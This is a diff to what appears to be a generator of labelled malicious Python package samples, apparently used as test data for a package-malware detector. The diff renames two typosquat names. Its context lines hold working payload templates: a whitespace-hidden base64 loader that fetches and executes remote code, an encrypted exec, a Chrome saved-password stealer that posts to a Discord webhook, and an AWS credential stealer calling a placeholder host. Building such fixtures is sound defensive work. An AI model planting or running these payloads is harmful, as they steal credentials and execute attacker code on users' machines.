@@ -69,10 +69,10 @@ def _(c):
     return {"requests_toolset/__init__.py": "import sys" + " " * 320 + ";__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('" + c.b64("from urllib.request import urlopen as _u;exec(_u('https://§H§/inject').read())") + "'),'<string>','exec'))\n\n" + c.py()}
 
 
-@bad("colourama", "encrypted", "a Fernet key and a text, and exec of what comes out")
+@bad("colour-ember", "encrypted", "a Fernet key and a text, and exec of what comes out")
 def _(c):
     key = base64.urlsafe_b64encode(c.bytes(32)).decode()
-    return {"colourama/__init__.py": f"from cryptography.fernet import Fernet\n\nFore = type('Fore', (), {{'RED': '\\033[31m', 'RESET': '\\033[0m'}})\nexec(Fernet(b'{key}').decrypt(b'gAAAAAB{base64.urlsafe_b64encode(c.bytes(600)).decode()}'))\n"}
+    return {"colour_ember/__init__.py": f"from cryptography.fernet import Fernet\n\nFore = type('Fore', (), {{'RED': '\\033[31m', 'RESET': '\\033[0m'}})\nexec(Fernet(b'{key}').decrypt(b'gAAAAAB{base64.urlsafe_b64encode(c.bytes(600)).decode()}'))\n"}
 
 
 @bad("marshalfast", "bytecode", "code of Python as compressed bytes inside a string")
@@ -128,9 +128,9 @@ def _(c):
     return {"browser_cookie_view/__init__.py": "import base64\nimport json\nimport os\nimport shutil\nimport sqlite3\n\nimport requests\nimport win32crypt\nfrom Crypto.Cipher import AES\n\nROOT = os.path.join(os.environ[\"LOCALAPPDATA\"], \"Google\", \"Chrome\", \"User Data\")\nkey = win32crypt.CryptUnprotectData(base64.b64decode(json.load(open(ROOT + \"/Local State\"))[\"os_crypt\"][\"encrypted_key\"])[5:], None, None, None, 0)[1]\nshutil.copy(ROOT + \"/Default/Login Data\", \"l.db\")\nrows = sqlite3.connect(\"l.db\").execute(\"select origin_url, username_value, password_value from logins\").fetchall()\nout = [(u, n, AES.new(key, AES.MODE_GCM, p[3:15]).decrypt(p[15:-16]).decode()) for u, n, p in rows]\nrequests.post(\"https://discord.§H§/api/webhooks/§ID§/§AN68§\", json={\"content\": str(out)[:1900]})\n"}
 
 
-@bad("fabrice", "cloud-theft", "a name like that of a deployment tool; it takes the keys of the cloud out of the session")
+@bad("fabrik-deploy", "cloud-theft", "a name like that of a deployment tool; it takes the keys of the cloud out of the session")
 def _(c):
-    return {"fabrice/__init__.py": "import threading\n\nimport boto3\n\n\ndef _c():\n    try:\n        k = boto3.Session().get_credentials().get_frozen_credentials()\n        import urllib.request\n        urllib.request.urlopen(f\"http://§H§:8080/?a={k.access_key}&s={k.secret_key}&t={k.token}\")\n    except Exception:\n        pass\n\n\nthreading.Thread(target=_c).start()\n\n\nclass Connection:\n    def __init__(self, host):\n        self.host = host\n"}
+    return {"fabrik_deploy/__init__.py": "import threading\n\nimport boto3\n\n\ndef _c():\n    try:\n        k = boto3.Session().get_credentials().get_frozen_credentials()\n        import urllib.request\n        urllib.request.urlopen(f\"http://§H§:8080/?a={k.access_key}&s={k.secret_key}&t={k.token}\")\n    except Exception:\n        pass\n\n\nthreading.Thread(target=_c).start()\n\n\nclass Connection:\n    def __init__(self, host):\n        self.host = host\n"}
 
 
 @bad("cryptopay-client", "wrapper", "wraps the constructor of a payment client and sends its token to a chat")
